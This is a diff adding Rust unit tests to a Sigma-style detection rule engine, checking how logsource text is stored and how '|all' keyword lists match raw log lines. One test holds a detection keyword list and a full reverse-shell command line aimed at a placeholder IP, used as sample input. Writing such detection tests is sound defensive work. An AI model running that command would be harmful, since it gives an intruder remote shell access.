@@ -133,3 +133,54 @@ fn auditd_rules_compile_but_see_no_ward_events() {
     assert_eq!(r.unknown_fields, vec!["DestinationHostname".to_string()]);
     assert!(!r.usable());
 }
+
+#[test]
+fn the_log_source_is_kept_as_written() {
+    let text = "title: t\nid: z\nlogsource: {product: linux, service: auditd}\n\
+                detection: {sel: {a: b}, condition: sel}\n";
+    let mut b = RuleSetBuilder::new();
+    b.add_source("z.yml", text);
+    let set = b.build().expect("compiles");
+    assert_eq!(
+        set.rule("z").unwrap().logsource,
+        "product: linux, service: auditd"
+    );
+}
+
+#[test]
+fn keyword_lists_with_the_all_modifier_search_the_raw_line() {
+    use ward_events::{Event, EventData, SessionOpened};
+    let text = "title: t\nid: k\nlevel: high\nlogsource: {product: linux}\n\
+                detection:\n  keywords:\n    '|all':\n      - 'bash -c /bin/bash'\n      - '&/dev/tcp/'\n  condition: keywords\n";
+    let mut b = RuleSetBuilder::new();
+    b.add_source("k.yml", text);
+    let set = b.build().expect("compiles");
+    let r = set.rule("k").unwrap();
+    assert!(r.usable(), "{:?}", r.unknown_fields);
+    let ev = |raw: &str| {
+        let mut e = Event::new(
+            0,
+            "t",
+            EventData::SessionOpened(SessionOpened {
+                service: "sshd".into(),
+                user: "x".into(),
+                by_user: None,
+            }),
+        );
+        e.set_raw(raw);
+        e
+    };
+    let mut engine = ward_rules::Engine::new(set);
+    assert_eq!(
+        engine
+            .process(&ev("x bash -c /bin/bash 0>&/dev/tcp/1.2.3.4/80 y"), 0)
+            .len(),
+        1
+    );
+    assert!(
+        engine
+            .process(&ev("x bash -c /bin/bash only"), 0)
+            .is_empty(),
+        "all of them"
+    );
+}
